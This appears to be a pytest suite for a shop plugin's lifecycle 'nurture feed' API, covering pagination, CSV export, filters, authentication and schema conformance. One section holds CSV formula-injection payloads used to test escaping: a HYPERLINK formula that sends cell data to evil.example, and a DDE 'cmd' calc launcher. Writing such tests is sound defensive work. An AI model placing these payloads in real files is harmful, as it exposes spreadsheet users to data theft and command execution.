"""Nurture feeds (plugin/api/nurture.py) over real HTTP: pagination that covers each customer
of a stage once, CSV that matches JSON, the products of the personal API call, stage filters,
refusals, isolation; the cursor; JSON answers and refusals are what the API reference
declares."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal
from typing import Any

import httpx
import pytest

from plugin.api.email_html import absolute_url
from plugin.api.lifecycle import parse_as_of
from plugin.api.nurture import (
    CUSTOMER_COLUMNS,
    PRODUCT_COLUMNS,
    FeedQuery,
    csv_header,
    csv_row,
    decode_cursor,
    encode_cursor,
    spreadsheet_cell,
)
from plugin.engine.lifecycle import shop_stages
from plugin.store import changes, keys
from plugin.store.order import LineItem, Order
from plugin.store.records import store_order, store_product
from plugin.store.shops import NewShop
from plugin.web.params import BadRequest
from recommender.lifecycle import STAGES, CustomerStage
from tests.conftest import Store
from tests.helpers import auth, eventually, order_payload, send_orders, train
from tests.openapi_check import reference, schema_errors, undocumented
from tests.plugin.api.test_email import api_items, catalog, local
from tests.plugin.engine.test_serving import (
    URL_PRODUCTS,
    expected_urls,
    fill_url_shop,
    store_raw_catalog,
    url_batches,
)

AS_OF = "2025-06-30"


def history_orders(customers: int, first_id: int = 10000) -> list[dict[str, Any]]:
    """Customer n orders 1 + n % 5 times, every 45 days from a start that moves with n."""
    start = datetime(2024, 1, 1, 10, tzinfo=UTC)
    orders = []
    for n in range(customers):
        for j in range(1 + n % 5):
            at = start + timedelta(days=(n * 7) % 400 + j * 45)
            orders.append(order_payload(
                first_id + n * 10 + j, n, [101 + (n + j) % 6, 101 + (n + 2 * j + 1) % 6],
                created_at=at.strftime("%Y-%m-%dT%H:%M:%SZ"), quantity=1 + n % 3))
    return orders


def fill(http: httpx.Client, store: Store, shop: NewShop, customers: int) -> NewShop:
    send_orders(http, shop, history_orders(customers))
    assert train(http, shop).status_code == 200
    for product in catalog(shop.shop.shop_id):
        store.run(lambda r, p=product: store_product(r, shop.shop.shop_id, p,
                                                     shop.shop.storefront_url))
    return shop


@pytest.fixture
def feed_shop(http: httpx.Client, store: Store, make_shop: Any) -> NewShop:
    return fill(http, store, make_shop(), customers=60)


def stages_of(store: Store, shop: NewShop) -> dict[str, CustomerStage]:
    return store.run(lambda r: shop_stages(r, shop.shop.shop_id, parse_as_of(AS_OF)))


def feed(http: httpx.Client, shop: NewShop, **params: Any) -> httpx.Response:
    return http.get(f"/api/v1/shops/{shop.shop.shop_id}/lifecycle/feed",
                    params={"as_of": AS_OF, **params}, headers=auth(shop))


def walk(http: httpx.Client, shop: NewShop, **params: Any) -> list[dict[str, Any]]:
    """Every item of the feed, page by page (the cursor alone carries as_of on)."""
    response = feed(http, shop, **params)
    items: list[dict[str, Any]] = []
    while True:
        assert response.status_code == 200, response.text
        body = response.json()
        items += body["items"]
        if body["next_cursor"] is None:
            return items
        response = http.get(f"/api/v1/shops/{shop.shop.shop_id}/lifecycle/feed",
                            params={**params, "cursor": body["next_cursor"]},
                            headers=auth(shop))


def test_pages_cover_every_customer_once(http, store, feed_shop) -> None:
    items = walk(http, feed_shop, limit=7)
    ids = [item["customer_id"] for item in items]
    assert len(ids) == len(set(ids)) == 60
    assert set(ids) == set(stages_of(store, feed_shop))
    assert ids == sorted(ids)


def test_stage_filter_matches_shop_stages(http, store, feed_shop) -> None:
    stages = stages_of(store, feed_shop)
    assert len({s.stage for s in stages.values()}) >= 3  # the data spreads over stages
    for stage in STAGES:
        items = walk(http, feed_shop, stage=stage, limit=4)
        expected = {c for c, s in stages.items() if s.stage == stage}
        assert [i["customer_id"] for i in items] == sorted(expected)
        for item in items:
            known = stages[item["customer_id"]]
            assert (item["stage"], item["frequency"], item["r"], item["f"], item["m"]) == (
                stage, known.frequency, known.r, known.f, known.m)
            assert item["monetary"] == str(Decimal(repr(known.monetary)).quantize(
                Decimal("0.01"), ROUND_HALF_UP))  # money: a decimal string with USD's cents


@pytest.mark.parametrize("exclude", [False, True])
def test_products_are_the_personal_api_answer(http, feed_shop, exclude) -> None:
    items = walk(http, feed_shop, limit=500, products=3, exclude_purchased=str(exclude).lower())
    fields = ("product_id", "score", "reason", "because", "title", "price", "url", "image_url")
    for item in items[::7]:
        expected = api_items(http, feed_shop, item["customer_id"], 3, exclude)
        assert [{k: p.get(k) for k in fields} for p in item["products"]] == [
            {k: p.get(k) for k in fields} for p in expected]
    assert max(len(item["products"]) for item in items) == 3


def test_csv_parses_and_matches_json(http, feed_shop) -> None:
    items = walk(http, feed_shop, limit=9, products=2)
    response = feed(http, feed_shop, format="csv", products=2)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert [row["customer_id"] for row in rows] == [item["customer_id"] for item in items]
    for row, item in zip(rows, items, strict=True):
        assert row["stage"] == item["stage"]
        assert row["email_block_url"] == item["email_block_url"]
        assert int(row["frequency"]) == item["frequency"]
        assert row["monetary"] == item["monetary"] and item["currency"] == "USD"
        assert float(row["churn_risk"]) == item["churn_risk"]
        for n, product in enumerate(item["products"], start=1):
            assert row[f"product_{n}_id"] == product["product_id"]
            assert row[f"product_{n}_url"] == product["click_url"]
            assert row[f"product_{n}_price"] == (product["display_price"] or "")
            assert row[f"product_{n}_reason"] == product["reason"]


def test_csv_pages_with_a_limit(http, feed_shop) -> None:
    seen: list[str] = []
    params: dict[str, Any] = {"format": "csv", "limit": 25, "as_of": AS_OF}
    url = f"/api/v1/shops/{feed_shop.shop.shop_id}/lifecycle/feed"
    while True:
        response = http.get(url, params=params, headers={**auth(feed_shop)})
        seen += [row["customer_id"] for row in csv.DictReader(io.StringIO(response.text))]
        cursor = response.headers.get("x-next-cursor")
        if cursor is None:
            break
        assert 'rel="next"' in response.headers["link"]
        params = {"format": "csv", "limit": 25, "cursor": cursor}
    assert len(seen) == len(set(seen)) == 60


def test_accept_text_csv_gives_csv(http, feed_shop) -> None:
    response = http.get(f"/api/v1/shops/{feed_shop.shop.shop_id}/lifecycle/feed",
                        params={"stage": "all", "limit": 3},
                        headers={**auth(feed_shop), "Accept": "text/csv"})
    assert response.headers["content-type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(response.text)))) == 3


def test_feed_links_open_without_the_api_key(http, feed_shop) -> None:
    item = feed(http, feed_shop, limit=1).json()["items"][0]
    block = http.get(local(item["email_block_url"]))
    assert block.status_code == 200 and "<table" in block.text
    product = item["products"][0]
    click = http.get(local(product["click_url"]))
    assert click.status_code == 303


def test_cursor_keeps_its_as_of(http, feed_shop) -> None:
    first = feed(http, feed_shop, limit=5).json()
    url = f"/api/v1/shops/{feed_shop.shop.shop_id}/lifecycle/feed"
    second = http.get(url, params={"limit": 5, "cursor": first["next_cursor"]},
                      headers=auth(feed_shop))
    assert second.json()["as_of"] == first["as_of"]
    other_day = http.get(url, params={"limit": 5, "cursor": first["next_cursor"],
                                      "as_of": "2025-01-01"}, headers=auth(feed_shop))
    assert other_day.status_code == 400
    other_stage = http.get(url, params={"limit": 5, "cursor": first["next_cursor"],
                                        "stage": "lost"}, headers=auth(feed_shop))
    assert other_stage.status_code == 400


@pytest.mark.parametrize("params", [
    {"stage": "vip"}, {"limit": "0"}, {"limit": "501"}, {"limit": "x"}, {"products": "0"},
    {"products": "13"}, {"exclude_purchased": "maybe"}, {"as_of": "yesterday"},
    {"cursor": "not-a-cursor"}, {"cursor": "e30"}, {"format": "xml"},
])
def test_bad_feed_params_are_400(http, shop, params) -> None:
    response = feed(http, shop, **params)
    assert response.status_code == 400, response.text
    assert response.headers["content-type"] == "application/problem+json"


def test_feed_needs_the_shops_api_key(http, shop, make_shop) -> None:
    url = f"/api/v1/shops/{shop.shop.shop_id}/lifecycle/feed"
    assert http.get(url).status_code == 401
    assert http.get(url, headers=auth(make_shop())).status_code == 403


def test_each_shop_sees_its_own_customers(http, store, feed_shop, make_shop) -> None:
    other = make_shop()
    send_orders(http, other, [order_payload(90000 + n, 500 + n, [201, 202],
                                            created_at="2025-03-01T10:00:00Z") for n in range(5)])
    assert train(http, other).status_code == 200
    items = walk(http, other, limit=500)
    assert [i["customer_id"] for i in items] == [str(500 + n) for n in range(5)]
    assert {p["product_id"] for i in items for p in i["products"]} <= {"201", "202"}
    assert all(f"/{other.shop.shop_id}/" in i["email_block_url"] for i in items)


def test_shop_without_orders_has_an_empty_feed(http, shop) -> None:
    body = feed(http, shop).json()
    assert body["items"] == [] and body["next_cursor"] is None
    text = feed(http, shop, format="csv").text
    assert text.splitlines()[0].startswith("customer_id,stage,")
    assert len(text.splitlines()) == 1



def test_before_the_first_model_customers_come_without_products(http, store, shop) -> None:
    line = LineItem(product_id="101", variant_id=None, title="P", quantity=1, price="3.00")
    for n in range(3):
        order = Order(order_id=f"o{n}", customer_id=f"c{n}", created_at=1.7e9 + n,
                      updated_at=1.7e9 + n, cancelled=False, currency="EUR", total_price="3.00",
                      lines=(line,))
        store.run(lambda r, o=order: store_order(r, shop.shop.shop_id, o))
    body = feed(http, shop).json()
    assert body["model_version"] is None
    assert [(i["customer_id"], i["products"]) for i in body["items"]] == [
        ("c0", []), ("c1", []), ("c2", [])]


# ---- the API reference --------------------------------------------------------------------------

FEED_ROUTE = "/api/v1/shops/{shop_id}/lifecycle/feed"


def declared(http: httpx.Client, response: httpx.Response) -> httpx.Response:
    assert schema_errors(reference(http), "GET", FEED_ROUTE, response) == [], response.text
    return response


def test_the_reference_documents_every_field_and_parameter(http) -> None:
    doc = reference(http)
    assert undocumented(doc, FEED_ROUTE) == []
    operation = doc["paths"][FEED_ROUTE]["get"]
    assert operation["security"] == [{"apiKey": ["lifecycle:read"]}]
    params = {p["name"]: p["schema"] for p in operation["parameters"]}
    assert list(params) == ["shop_id", "stage", "as_of", "limit", "cursor", "products",
                            "exclude_purchased", "format"]
    assert params["stage"]["enum"] == ["all", *STAGES]
    assert (params["limit"]["maximum"], params["products"]["maximum"]) == (500, 12)
    assert params["format"]["enum"] == ["json", "csv"]
    assert "text/csv" in operation["responses"]["200"]["description"]


def test_every_page_is_what_the_reference_declares(http, feed_shop) -> None:
    """Products without a price or a safe URL (the catalog's 103) give nulls."""
    pages, nulls = 0, set()
    for params in ({"limit": 25, "products": 12}, {"stage": "loyal", "limit": 3,
                                                    "exclude_purchased": "true"}):
        response = declared(http, feed(http, feed_shop, **params))
        while True:
            body = response.json()
            pages += 1
            nulls |= {k for i in body["items"] for p in i["products"] for k, v in p.items()
                      if v is None}
            if body["next_cursor"] is None:
                break
            response = declared(http, http.get(
                f"/api/v1/shops/{feed_shop.shop.shop_id}/lifecycle/feed",
                params={**params, "cursor": body["next_cursor"]}, headers=auth(feed_shop)))
    assert pages > 3 and {"price", "display_price", "url", "email_image_url"} <= nulls


def test_a_feed_before_any_model_or_cycle_is_declared(http, store, shop) -> None:
    assert declared(http, feed(http, shop)).json()["items"] == []
    line = LineItem(product_id="101", variant_id=None, title="P", quantity=1, price="3.00")
    for n in range(2):
        order = Order(order_id=f"o{n}", customer_id=f"c{n}", created_at=1.7e9 + n,
                      updated_at=1.7e9 + n, cancelled=False, currency="EUR", total_price="3.00",
                      lines=(line,))
        store.run(lambda r, o=order: store_order(r, shop.shop.shop_id, o))
    body = declared(http, feed(http, shop, limit=1)).json()
    assert body["model_version"] is None and body["next_cursor"] is not None
    assert body["items"][0]["expected_next_order"] is None  # no repeat customer, no cycle


@pytest.mark.parametrize("params", [
    {"stage": "vip"}, {"limit": "501"}, {"products": "13"}, {"exclude_purchased": "maybe"},
    {"as_of": "yesterday"}, {"cursor": "not-a-cursor"}, {"format": "xml"},
])
def test_refusals_are_what_the_reference_declares(http, shop, params) -> None:
    assert declared(http, feed(http, shop, **params)).status_code == 400


# ---- cursors ------------------------------------------------------------------------------------


def test_a_cursor_carries_stage_as_of_and_the_last_customer() -> None:
    query = FeedQuery(stage="at_risk", as_of=1.7e9 + 0.5, limit=10, after=None, products=4,
                      exclude_purchased=False)
    cursor = encode_cursor(query, "cust/ä 7")
    assert "=" not in cursor and decode_cursor(cursor) == (1.7e9 + 0.5, "at_risk", "cust/ä 7")


@pytest.mark.parametrize("data", [
    '{"as_of": NaN, "stage": "all", "after": "1"}',
    '{"as_of": 1e999, "stage": "all", "after": "1"}',
    '{"as_of": "1", "stage": "all", "after": "1"}', '{"as_of": 1, "stage": 3, "after": "1"}',
    '{"as_of": 1, "stage": "all", "after": 1}', '{"as_of": 1, "stage": "all"}', "[]", "1",
])
def test_a_cursor_this_feed_did_not_give_is_refused(data: str) -> None:
    raw = base64.urlsafe_b64encode(data.encode()).rstrip(b"=").decode()
    with pytest.raises(BadRequest, match="pass next_cursor unchanged"):
        decode_cursor(raw)


# ---- CSV cells a spreadsheet cannot run --------------------------------------------------------

# Text as a spreadsheet would run it, by the character that starts it.
FORMULAS = {
    "=": '=HYPERLINK("https://evil.example/?"&A1,"Open")', "+": "+cmd|' /C calc'!A0",
    "-": "-2+3", "@": "@SUM(1+1)", "|": "|calc", "spaces =": "  =1+1", "tab": "\t=1+1",
    "cr": "\r=1+1", "lf": "\n=1+1", "nul": "\x00=1+1",
}
# What an order id rule lets through as a customer id (printable text).
PRINTABLE_FORMULAS = {k: v for k, v in FORMULAS.items() if v.isprintable()}


def feed_rows(http: httpx.Client, shop: NewShop, **params: Any) -> list[dict[str, str]]:
    response = feed(http, shop, format="csv", **params)
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_csv_customer_ids_cannot_run_as_formulas(http, feed_shop) -> None:
    orders = []
    for n, customer_id in enumerate(PRINTABLE_FORMULAS.values()):
        order = order_payload(80000 + n, 1, [101, 102], created_at="2025-05-01T10:00:00Z")
        orders.append({**order, "customer": {"id": customer_id}})
    send_orders(http, feed_shop, orders)
    assert train(http, feed_shop).status_code == 200  # drains accepted events first
    ids = {row["customer_id"] for row in feed_rows(http, feed_shop, products=1)}
    assert {"'" + customer_id for customer_id in PRINTABLE_FORMULAS.values()} <= ids
    assert not set(PRINTABLE_FORMULAS.values()) & ids


def test_csv_titles_cannot_run_as_formulas(http, store, feed_shop) -> None:
    products = [str(p) for p in range(101, 107)]
    formulas = list(FORMULAS.values())
    for start in range(0, len(formulas), len(products)):
        titles = dict(zip(products, formulas[start:start + len(products)], strict=False))
        store_raw_titles(store, feed_shop, titles)

        def shown(titles: dict[str, str] = titles) -> set[str]:
            rows = feed_rows(http, feed_shop, products=len(products))
            shown = {v for row in rows for k, v in row.items() if k.endswith("_title")}
            assert {"'" + title for title in titles.values()} <= shown
            return shown

        assert not set(titles.values()) & eventually(shown)


def store_raw_titles(store: Store, shop: NewShop, titles: dict[str, str]) -> None:
    """Catalog titles written as they are, past the intake rules (which turn a tab or a line
    break into a space), as an older version may have left them."""
    entries = {product_id: json.dumps({"product_id": product_id, "title": title, "price": "1",
                                       "url": None, "image_url": None, "available": True})
               for product_id, title in titles.items()}
    shop_id = shop.shop.shop_id

    async def write(redis: Any) -> None:
        await redis.hset(keys.products(shop_id), mapping=entries)
        await changes.note(redis, shop_id, *((changes.PRODUCT, p) for p in titles))

    store.run(write)


def test_csv_numbers_stay_numbers_and_every_text_cell_is_guarded() -> None:
    item = {**dict.fromkeys(CUSTOMER_COLUMNS, "=x"), "customer_id": "\t=1+1",
            "recency_days": -2.5, "frequency": 3, "monetary": -10.0, "expected_next_order": None,
            "products": [{"product_id": "-1", "title": "@x", "display_price": "-€1,00",
                          "click_url": "+x", "email_image_url": None, "reason": "|x"}]}
    row = dict(zip(csv_header(2), csv_row(item, 2), strict=True))
    assert (row["recency_days"], row["frequency"], row["monetary"]) == (-2.5, 3, -10.0)
    assert row["customer_id"] == "'\t=1+1" and row["stage"] == "'=x"
    assert row["expected_next_order"] == row["product_1_image_url"] == ""
    assert [row[f"product_1_{c}"] for c in ("id", "title", "price", "url", "reason")] == [
        "'-1", "'@x", "'-€1,00", "'+x", "'|x"]
    assert all(row[f"product_2_{c}"] == "" for c in PRODUCT_COLUMNS)


@pytest.mark.parametrize("text", ["Mug", "", "a=b", "1-2", "e-mail", "'=already"])
def test_csv_plain_text_is_left_alone(text) -> None:
    assert spreadsheet_cell(text) == text


# ---- only http(s) URLs in the feed ---------------------------------------------------------------


@pytest.fixture
def url_shop(http: httpx.Client, shop: NewShop) -> NewShop:
    return fill_url_shop(http, shop)


def test_feed_products_carry_only_http_urls(http, store, url_shop) -> None:
    for batch in url_batches():
        store_raw_catalog(store, url_shop, batch)
        expected = expected_urls(batch)

        def served(batch: dict[str, tuple[object, object]] = batch,
                   expected: dict[str, tuple[object, object]] = expected) -> None:
            items = walk(http, url_shop, limit=500, products=len(URL_PRODUCTS))
            served = [(p["product_id"], p["url"], p["image_url"])
                      for item in items for p in item["products"]]
            assert {p for p, _, _ in served} == set(batch)
            assert all((url, image) == expected[p] for p, url, image in served)

        eventually(served)
        rows = feed_rows(http, url_shop, products=len(URL_PRODUCTS))
        images = {(row[f"product_{n}_id"], row[f"product_{n}_image_url"]) for row in rows
                  for n in range(1, len(URL_PRODUCTS) + 1) if row[f"product_{n}_id"]}
        storefront = url_shop.shop.storefront_url  # the e-mail form: scheme in lower case
        assert images == {(p, absolute_url(image, storefront) or "")
                          for p, (_, image) in expected.items()}
